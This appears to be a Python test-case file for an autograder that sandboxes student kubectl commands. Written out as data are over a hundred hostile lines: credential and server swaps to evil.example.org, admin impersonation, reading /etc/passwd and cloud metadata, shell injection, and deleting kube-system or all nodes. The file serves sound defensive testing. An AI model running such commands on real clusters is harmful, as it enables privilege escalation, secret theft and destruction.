"""Lines of kubectl, and of more than kubectl, that reach for what is not the student's."""

from __future__ import annotations

import json
from collections.abc import Iterator

from case import Case, holding
from hostile_course import COMMANDS, notebook

from autograder.checks import Status

#: What an editor would do with what it reads.
EDITS = "<<EOF\n:!touch pwned /tmp/pwned\n:q!\nEOF"
#: Lines that are refused before anything is run, and what is said of them.
REFUSED: dict[str, tuple[str, str]] = {
    "cmd-kubeconfig": ("kubectl --kubeconfig /etc/kubernetes/admin.conf get pods", "--kubeconfig"),
    "cmd-kubeconfig-joined": ("kubectl get pods --kubeconfig=../kubeconfig", "--kubeconfig"),
    "cmd-server": ("kubectl get pods --server=https://evil.example.org", "--server"),
    "cmd-server-short": ("kubectl get pods -s https://evil.example.org", "-s"),
    "cmd-token": ("kubectl get pods --token=abc", "--token"),
    "cmd-as-admin": ("kubectl get secrets -A --as system:admin", "--as"),
    "cmd-as-group": ("kubectl get nodes --as-group=system:masters --as=x", "--as"),
    "cmd-context": ("kubectl --context other get pods", "--context"),
    "cmd-cluster": ("kubectl --cluster=other get pods", "--cluster"),
    "cmd-user": ("kubectl --user=admin get pods", "--user"),
    "cmd-insecure": ("kubectl get pods --insecure-skip-tls-verify", "--insecure-skip-tls-verify"),
    "cmd-certificate": ("kubectl get pods --client-certificate=/etc/passwd", "--client-certificate"),
    "cmd-proxy-url": ("kubectl config set-cluster x --proxy-url=http://evil", "config"),
    "cmd-file-absolute": ("kubectl apply -f /etc/passwd", "no file of the answer"),
    "cmd-file-joined": ("kubectl apply -f=/etc/passwd", "no file of the answer"),
    "cmd-file-glued": ("kubectl apply -f/etc/passwd", "no file of the answer"),
    "cmd-file-long": ("kubectl apply --filename=../../../gradebook.db", "no file of the answer"),
    "cmd-file-up": ("kubectl apply -f ../", "no file of the answer"),
    "cmd-file-here": ("kubectl apply -Rf .", "no file of the answer"),
    "cmd-file-list": ("kubectl apply -f a.yaml,/etc/passwd", "no file of the answer"),
    "cmd-file-url": ("kubectl apply -f http://169.254.169.254/latest/meta-data", "no file of the answer"),
    "cmd-kustomize-flag": ("kubectl apply -k https://github.com/evil/repo", "-k"),
    "cmd-kustomize": ("kubectl kustomize /etc", "kustomize"),
    "cmd-plugin": ("kubectl evil --do it", "evil"),
    "cmd-krew": ("kubectl krew install evil", "krew"),
    "cmd-cp": ("kubectl cp x:/etc/passwd ./passwd", "cp"),
    "cmd-proxy": ("kubectl proxy --port=8001", "proxy"),
    "cmd-port-forward": ("kubectl port-forward pod/x 8080:80", "port-forward"),
    "cmd-edit": ("kubectl edit configmap x", "edit"),
    "cmd-debug": ("kubectl debug node/worker-1 -it --image=busybox", "debug"),
    "cmd-attach": ("kubectl attach x -it", "attach"),
    "cmd-exec-terminal": ("kubectl exec -it x -- sh", "-i"),
    "cmd-config-view": ("kubectl config view --raw", "config"),
    "cmd-raw": ("kubectl get --raw /api/v1/secrets", "--raw"),
    "cmd-delete-raw": ("kubectl delete --raw /api/v1/nodes/worker-1", "--raw"),
    "cmd-verbose": ("kubectl get pods -v=9", "-v"),
    "cmd-verbose-long": ("kubectl get pods --v=99", "--v"),
    "cmd-vmodule": ("kubectl get pods --vmodule='*=9'", "--vmodule"),
    "cmd-watch": ("kubectl get pods -w", "-w"),
    "cmd-watch-only": ("kubectl get pods --watch-only", "--watch-only"),
    "cmd-logs-follow": ("kubectl logs x -f", "-f"),
    "cmd-cache-dir": ("kubectl get pods --cache-dir=/tmp/pwned", "--cache-dir"),
    "cmd-profile": ("kubectl get pods --profile=cpu", "--profile"),
    "cmd-profile-output": ("kubectl get pods --profile-output=/tmp/pwned", "--profile-output"),
    "cmd-log-file": ("kubectl get pods --log-file=/tmp/pwned", "--log-file"),
    "cmd-log-dir": ("kubectl get pods --log-dir=/tmp", "--log-dir"),
    "cmd-template-flag": ("kubectl get pods --template=@/etc/passwd", "--template"),
    "cmd-template-file": ("kubectl get pods -o go-template-file=/etc/passwd", "go-template-file"),
    "cmd-template-file-glued": ("kubectl get pods -ogo-template-file=/etc/passwd", "go-template-file"),
    "cmd-jsonpath-file": ("kubectl get pods -o jsonpath-file=/etc/passwd", "jsonpath-file"),
    "cmd-columns-file": ("kubectl get pods -o=custom-columns-file=/etc/passwd", "custom-columns-file"),
    "cmd-secret-file": ("kubectl create secret generic x --from-file=/etc/passwd", "no file of the answer"),
    "cmd-secret-file-key": ("kubectl create secret generic x --from-file=k=/etc/passwd", "no file of the answer"),
    "cmd-env-file": ("kubectl create configmap x --from-env-file=/proc/self/environ", "no file of the answer"),
    "cmd-tls-files": ("kubectl create secret tls x --cert=/etc/passwd --key=/etc/passwd", "--cert"),
    "cmd-patch-file": ("kubectl patch configmap x --patch-file=/etc/passwd", "no file of the answer"),
    "cmd-write-absolute": ("kubectl get pods > /tmp/pwned", "no file of the answer"),
    "cmd-write-up": ("kubectl get pods > ../pwned", "no file of the answer"),
    "cmd-append": ("kubectl get pods >> x.txt", "of a shell"),
    "cmd-read": ("kubectl apply -f - < /etc/passwd", "of a shell"),
    "cmd-semicolon": ("kubectl get pods; touch pwned", "of a shell"),
    "cmd-and": ("kubectl get pods && touch pwned", "of a shell"),
    "cmd-background": ("kubectl get pods & touch pwned", "of a shell"),
    "cmd-substitution": ("kubectl get pods $(touch pwned)", "of a shell"),
    "cmd-backticks": ("kubectl get pods `touch pwned`", "of a shell"),
    "cmd-process": ("kubectl apply -f <(cat /etc/passwd)", ""),
    "cmd-environment": ("KUBECONFIG=/etc/passwd kubectl get pods", "cannot be run here"),
    "cmd-env": ("env KUBECONFIG=/etc/passwd kubectl get pods", "cannot be run here"),
    "cmd-editor": ("EDITOR='touch pwned' kubectl edit configmap x", "cannot be run here"),
    "cmd-other-program": ("bash -c 'touch pwned'", "cannot be run here"),
    "cmd-pipe-to-shell": ("kubectl get pods -o yaml | sh", "cannot be run here"),
    "cmd-path": ("/usr/bin/kubectl get pods", "cannot be run here"),
    "cmd-21-commands": ("kubectl get pods\n" * 21, "21 commands"),
    "cmd-100-kb": ("kubectl get pods " + "x" * 100_000, "characters"),
    "cmd-open-quote": ("kubectl get pods 'x", "not closed"),
    "cmd-open-text": ("kubectl apply -f - <<EOF\nkind: Pod", "not ended"),
    "cmd-nul": ("kubectl get pods 'a\0b'", "nobody sees"),
    "cmd-right-to-left": ("kubectl get \u202epods", "nobody sees"),
    "cmd-as-user-extra": ("kubectl get pods --as-user-extra=a=b", "--as-user-extra"),
    "cmd-kuberc": ("kubectl get pods --kuberc=/etc/passwd", "--kuberc"),
    "cmd-password": ("kubectl get pods --username=x --password=y", "--username"),
    "cmd-short-cluster": ("kubectl get pods -Aws http://evil", "-"),
    "cmd-lone-equals": ("kubectl get pods -n= --kubeconfig=/etc/passwd -n default", "--kubeconfig"),
    "cmd-lone-equals-file": ("kubectl apply -f= -f /etc/passwd", "no file of the answer"),
    "cmd-shorts-equals": ("kubectl get pods -An= -s http://evil", "-s"),
    "cmd-value-for-verb": ("kubectl --request-timeout get config view --raw --request-timeout=5", "config"),
    "cmd-value-for-verb-set": ("kubectl --request-timeout get config set users.x.tokenFile /etc/passwd", "config"),
    "cmd-value-for-verb-cp": ("kubectl --request-timeout get cp /etc/passwd x:/y --request-timeout=5", "cp"),
    "cmd-value-for-verb-edit": (f"kubectl --request-timeout get edit cm/x {EDITS}", "edit"),
    "cmd-unknown-before-verb": (f"kubectl --subresource get edit cm/x --subresource=status {EDITS}", "cannot stand"),
    "cmd-short-before-verb": ("kubectl -l get kustomize /etc", "cannot stand there"),
    "cmd-edit-last-applied": (f"kubectl apply edit-last-applied cm/x -n diff -n default {EDITS}", "opens an editor"),
    "cmd-edit-last-applied-late": (f"kubectl apply -o yaml edit-last-applied cm/x {EDITS}", "opens an editor"),
    "cmd-files-with-comma": ("kubectl create configmap x --from-file=/etc/passwd,k=a.txt", "no file of the answer"),
    "cmd-files-as-csv": ("kubectl create configmap x '--from-file=\"/etc/passwd\",k=a.txt'", "no file of the answer"),
    "cmd-env-files-with-comma": ("kubectl create configmap x --from-env-file=a.txt,/proc/self/environ", "no file"),
    "cmd-patch-status": (
        "kubectl patch quota x --subresource=status --type=merge -p '{\"status\": {\"hard\": {\"pods\": \"99\"}}}'",
        "--subresource status",
    ),
    "cmd-replace-status": ("kubectl replace -f x.yaml --subresource status", "--subresource status"),
    "cmd-create-edit": ("kubectl create -f x.yaml --edit", "--edit"),
    "cmd-cluster-info-dump": ("kubectl cluster-info dump --output-directory=/tmp/pwned", "--output-directory"),
    "cmd-underscores": ("kubectl create configmap x --from_file=/etc/passwd", "--from_file"),
    "cmd-completion": ("kubectl __complete get pods ''", "__complete"),
    "cmd-help-of-edit": ("kubectl help edit", "help"),
    "cmd-options-end-first": ("kubectl -- edit cm/x", "--"),
    "cmd-empty-word-first": ("kubectl '' edit cm/x", ""),
    "cmd-continued-line": ("kubectl get pods \\\n --kubeconfig=/etc/passwd", "--kubeconfig"),
    "cmd-name-of-a-link": ("kubectl get pods > .kube", "no file of the answer"),
}  # fmt: skip

ENDLESS = '{{define "a"}}{{template "a"}}{{end}}{{template "a"}}'
MANY = "".join(f"kubectl create deployment web{n} --image=nginx:1.27 --replicas=90\n" for n in range(9))
DOUBLING = '{{$x := "aaaaaaaaaaaaaaaa"}}' + "{{$x = print $x $x}}" * 40 + "{{len $x}}"
FLOOD = '{{range .items}}{{printf "%900000d" 1}}{{end}}'
COPIES = json.dumps([{"op": "copy", "from": "/data", "path": f"/data/x{n}"} for n in range(60)])
MAP = "kubectl create configmap a --from-literal=a=b\n"
RUN_POD = "kubectl run x --image=busybox:1.36 -- sleep 3600\nkubectl wait --for=condition=Ready pod/x\n"
SCALED = "kubectl create deployment web --image=nginx:1.27\nkubectl scale deployment web --replicas=99999"
#: Lines that are run, and come to nothing.
RUN: dict[str, tuple[str, str]] = {
    "run-file-of-nobody": ("kubectl apply -f notebook.yaml", ""),
    "run-kubeconfig-by-name": ("kubectl create configmap by-command --from-file=kubeconfig", ""),
    "run-template-of-environment": ("kubectl get pods -o go-template='{{ .HOME }}{{ env \"HOME\" }}'", ""),
    "run-endless-template": (f"kubectl get nodes -o go-template='{ENDLESS}'", ""),
    "run-100000-replicas": ("kubectl create deployment web --image=nginx --replicas=100000", "at most 200 are run"),
    "run-many-small": (MANY, "at most 200 are run"),
    "run-scale": (SCALED, "at most 200 are run"),
    "run-wait-for-ever": ("kubectl wait --for=delete node/worker-1 --timeout=1h", "stopped after"),
    "run-other-namespace": ("kubectl create configmap by-command -n nowhere --from-literal=colour=blue", ""),
    "run-exec-nothing": ("kubectl exec nothing -- cat /etc/passwd", ""),
    "run-doubling-template": (f"kubectl get nodes -o go-template='{DOUBLING}'", ""),
    "run-flood": (f"kubectl get nodes -o go-template='{FLOOD}'", "more than"),
    "run-patch-bomb": (f"{MAP}kubectl patch cm a --type=json -p '{COPIES}'", ""),
    "run-exec-endless": (f"{RUN_POD}kubectl exec x -- sh -c 'while true; do echo x; done'", ""),
    "run-exec-host": (f"{RUN_POD}kubectl exec x -- cat ../../../../../../etc/passwd /proc/1/environ", ""),
    "run-exec-regex": (f"{RUN_POD}kubectl exec x -- sh -c 'echo {'a' * 40}! | sed -E s/(a+)+$/x/'", ""),
    "run-delete-the-rights": ("kubectl delete clusterroles,clusterrolebindings --all", ""),
    "run-delete-system": ("kubectl delete namespace kube-system default --wait=false", ""),
    "run-diff-of-nothing": ("kubectl diff -f - <<EOF\nkind: x\nEOF", ""),
    "run-diff-then-plugin": ("kubectl create diff party", ""),
    "run-node-of-mine": ("kubectl delete node worker-1 worker-2", ""),
    "run-name-taken": ("kubectl create secret generic by-command --from-literal=colour=blue --from-literal=size=3", ""),
    "run-name-look-alike": ("kubectl create configmap by-c\u043emmand --from-literal=colour=blue", ""),
    "run-dry": ("kubectl create configmap by-command --from-literal=colour=blue --dry-run=server", ""),
    "run-escapes": (f"{MAP}kubectl get -f - <<EOF\n\x1b[2J\u202e\nEOF", ""),
    "run-surrogate": ("kubectl get pods 'a\ud800b'", ""),
    "run-delete-everything": ("kubectl delete nodes --all", ""),
    "run-apply-piped": ("kubectl apply -f - <<EOF\nkind: List\nitems: [[[]]]\nEOF", ""),
}  # fmt: skip


def cases() -> Iterator[Case]:
    """The cases of this file."""
    for name, (text, said) in REFUSED.items():
        yield Case(name, holding(notebook(by_command=text)), Status.UNREADABLE, said, COMMANDS)
    for name, (text, said) in RUN.items():
        yield Case(name, holding(notebook(by_command=text)), Status.GRADED, said, COMMANDS, is_long=True)
